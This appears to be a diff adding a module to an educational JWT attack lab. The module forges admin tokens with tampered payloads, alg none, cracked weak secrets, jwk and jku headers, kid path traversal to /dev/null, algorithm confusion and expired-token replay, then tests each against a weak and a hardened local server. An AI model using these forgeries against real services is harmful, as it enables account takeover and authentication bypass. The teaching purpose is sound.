@@ -1,0 +1,182 @@
+"""The lab's JWT attacks, one function each, and the table of every attack by weakness name.
+
+Both servers of a JWT attack share one key, so the forged token is built once and the very
+same bytes go to each. The attacker logs in as the handout's user (123) and wants to be
+user 1, the first account: usually the administrator.
+"""
+
+from __future__ import annotations
+
+import json
+import secrets
+import time
+from dataclasses import replace
+from typing import Any
+
+from authcli.server.jwt_auth import JwtAuth
+from authcli.server.weaknesses import WEAKNESSES, Weakness, jwt_policy
+from authcli.tokens import make_signing_key, split
+from authcli.tokens.forge import sign_hmac, sign_with, tampered, unsigned
+from authcli.walkthroughs.lab import Attack, Outcome, Pair, outcome, welcomed
+from authcli.walkthroughs.lab_sessions import SESSION_ATTACKS
+
+ADMIN = {"sub": "1", "userId": 1}
+CREDENTIALS = {"email": "a@b.com", "password": "123"}
+
+
+def jwt_apps(w: Weakness) -> tuple[JwtAuth, JwtAuth]:
+    """The weak server and the hardened one, with one key (a random one for the hardened
+    server of weak-secret: a strong secret is its defence)."""
+    key = make_signing_key(w.alg, w.secret)
+    hard_key = make_signing_key(w.alg) if w.secret else key
+    if w.name == "kid-path":
+        key = hard_key = replace(key, kid="server-key")
+    return (JwtAuth(key, 300, policy=jwt_policy([w]), weak=(w.name,)), JwtAuth(hard_key, 300))
+
+
+def _login(pair: Pair, server) -> tuple[Any, str]:
+    ex = pair.send(server, "POST", "/login", json=CREDENTIALS)
+    return ex, json.loads(ex.response.body)["token"]
+
+
+def _both(pair: Pair, forged: str, before: list, notes: tuple[list[str], list[str]] = ([], [])) -> tuple[Outcome, Outcome]:
+    """Send the same forged token to both servers' /profile; `before` is what the attacker did
+    on the weak server to make it (the servers share a key, so it fits both)."""
+    out = []
+    for server, shown, extra in ((pair.weak, before, notes[0]), (pair.hard, [], notes[1])):
+        ex = pair.send(server, "GET", "/profile", headers={"Authorization": f"Bearer {forged}"})
+        out.append(outcome([*shown, ("the forged token", ex)], won_if=welcomed(1), notes=extra))
+    return out[0], out[1]
+
+
+def _admin_claims(token: str) -> dict[str, Any]:
+    return {**split(token).payload, **ADMIN}
+
+
+def no_verify(pair: Pair):
+    login, token = _login(pair, pair.weak)
+    return _both(pair, tampered(token, **ADMIN), [("log in as user 123", login)])
+
+
+def alg_none(pair: Pair):
+    login, token = _login(pair, pair.weak)
+    return _both(pair, unsigned({"alg": "none", "typ": "JWT"}, _admin_claims(token)), [("log in", login)])
+
+
+def weak_secret(pair: Pair):
+    from authcli.tokens.crack import crack, wordlist
+
+    login, token = _login(pair, pair.weak)
+    found = crack(split(token), wordlist(), max_seconds=10)
+    if found.secret is None:
+        return (Outcome([("log in", login)], False, "the wordlist did not hold the secret"),
+                Outcome([], False, ""))
+    _, hard_token = _login(pair, pair.hard)
+    missed = crack(split(hard_token), wordlist(), max_seconds=10)
+    forged = sign_hmac({"alg": "HS256", "typ": "JWT"}, _admin_claims(token), found.secret)
+    return _both(pair, forged, [("log in", login)], (
+        [f"Offline, from that one token, the attacker tried authcli's wordlist (authcli crack) and "
+         f"found the secret {found.secret.decode('utf-8', 'replace')!r} at guess {found.tried}, in "
+         f"{found.seconds * 1000:.1f} ms, then signed a token for user 1 with it."],
+        [f"The same wordlist against a token from this server: {missed.tried} guesses, "
+         f"{'not found' if missed.secret is None else 'FOUND'}. Its secret is 32 random bytes; the "
+         "forged token, signed with mySecretKey, does not match."]))
+
+
+def _attacker_key() -> tuple[Any, dict[str, Any]]:
+    from cryptography.hazmat.primitives.asymmetric import rsa
+
+    from authcli.tokens.keys import pyjwt
+
+    private = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+    jwk = json.loads(pyjwt().algorithms.RSAAlgorithm.to_jwk(private.public_key()))
+    return private, {**jwk, "kid": "attacker"}
+
+
+def jwk_header(pair: Pair):
+    login, token = _login(pair, pair.weak)
+    private, jwk = _attacker_key()
+    forged = sign_with(private, {"alg": "RS256", "jwk": jwk}, _admin_claims(token))
+    return _both(pair, forged, [("log in", login)], (
+        ["The attacker made an RSA key pair of their own, put the public half in the token's jwk "
+         "header, and signed with the private half."], []))
+
+
+def jku_header(pair: Pair):
+    from authcli.walkthroughs.lab_sessions import JwksHost
+
+    login, token = _login(pair, pair.weak)
+    private, jwk = _attacker_key()
+    host = pair.stack.enter_context(JwksHost({"keys": [jwk]}))
+    forged = sign_with(private, {"alg": "RS256", "jku": host.url, "kid": "attacker"}, _admin_claims(token))
+    weak, hard = _both(pair, forged, [("log in", login)])
+    fetched = host.fetches
+    weak.notes.append(f"The attacker serves a JWKS with their own public key at {host.url} (another "
+                      f"port on this machine) and names it in the token's jku header. The weak server "
+                      f"fetched it {fetched[0]} time{'s' if fetched[0] != 1 else ''}.")
+    hard.notes.append(f"The attacker's JWKS server was asked {host.fetches[0] - fetched[0]} more times: "
+                      "the hardened server never followed the URL.")
+    return weak, hard
+
+
+def kid_path(pair: Pair):
+    login, token = _login(pair, pair.weak)
+    forged = sign_hmac({"alg": "HS256", "typ": "JWT", "kid": "../../../../../../../../dev/null"},
+                       _admin_claims(token), b"")
+    return _both(pair, forged, [("log in", login)], (
+        ["The server's tokens name their key file in kid (\"server-key\"). The attacker sets kid to "
+         "../../../../../../../../dev/null, a file every Linux machine has and that reads as zero "
+         "bytes, and signs with an empty key."], []))
+
+
+def alg_confusion(pair: Pair):
+    from authcli.tokens.keys import pyjwt
+    from cryptography.hazmat.primitives import serialization
+
+    login, token = _login(pair, pair.weak)
+    jwks = pair.send(pair.weak, "GET", "/.well-known/jwks.json")
+    public = pyjwt().algorithms.RSAAlgorithm.from_jwk(json.loads(jwks.response.body)["keys"][0])
+    pem = public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
+    forged = sign_hmac({"alg": "HS256", "typ": "JWT"}, _admin_claims(token), pem)
+    return _both(pair, forged, [("log in", login), ("the public key", jwks)], (
+        [f"The server publishes its RSA public key (anyone may have it). The attacker writes it "
+         f"as PEM ({len(pem)} bytes) and uses those bytes as an HS256 secret: a server that lets "
+         "the token pick HS256 checks the HMAC with the same bytes."], []))
+
+
+def no_exp(pair: Pair):
+    from authcli.tokens import issue
+
+    key = pair.weak.app.key
+    year_ago = int(time.time()) - 365 * 24 * 3600
+    old = issue(key, {**ADMIN, "iat": year_ago, "exp": year_ago + 300, "jti": secrets.token_urlsafe(16)})
+    return _both(pair, old, [], (
+        ["The attacker found a token user 1 was given a year ago, in an old log file. It was "
+         "signed by this server's key and expired five minutes after it was issued."], []))
+
+
+def _jwt(name: str, run, knows: str, predict: str) -> Attack:
+    return Attack(WEAKNESSES[name], knows, run, jwt_apps, predict)
+
+
+ATTACKS = {a.weakness.name: a for a in [
+    _jwt("no-verify", no_verify, "The attacker logs in as user 123, then changes sub to \"1\" in the "
+         "payload and keeps the old signature.", "A token with its payload changed, old signature kept."),
+    _jwt("alg-none", alg_none, "The attacker writes a header saying alg none, a payload for user 1, "
+         "and no signature at all.", "An unsigned token (alg: none) for user 1."),
+    _jwt("weak-secret", weak_secret, "The attacker logs in once and takes the token home: its "
+         "signature can be checked against guesses offline, with no contact with the server.",
+         "A token signed with a secret guessed offline."),
+    _jwt("jwk-header", jwk_header, "The attacker signs a token for user 1 with a key of their own.",
+         "A token carrying its own key in the jwk header."),
+    _jwt("jku-header", jku_header, "The attacker signs a token for user 1 with a key of their own, "
+         "published where the token says.", "A token whose jku header points at the attacker's keys."),
+    _jwt("kid-path", kid_path, "The attacker signs a token for user 1 with an empty key.",
+         "A token whose kid points at /dev/null, signed with an empty key."),
+    _jwt("alg-confusion", alg_confusion, "The attacker fetches the server's public key and signs a "
+         "token for user 1 with HS256, using the public key as the secret.",
+         "An HS256 token signed with the server's public key."),
+    _jwt("no-exp", no_exp, "The attacker replays a token that expired a year ago.",
+         "A token that expired a year ago."),
+    *SESSION_ATTACKS,
+]}
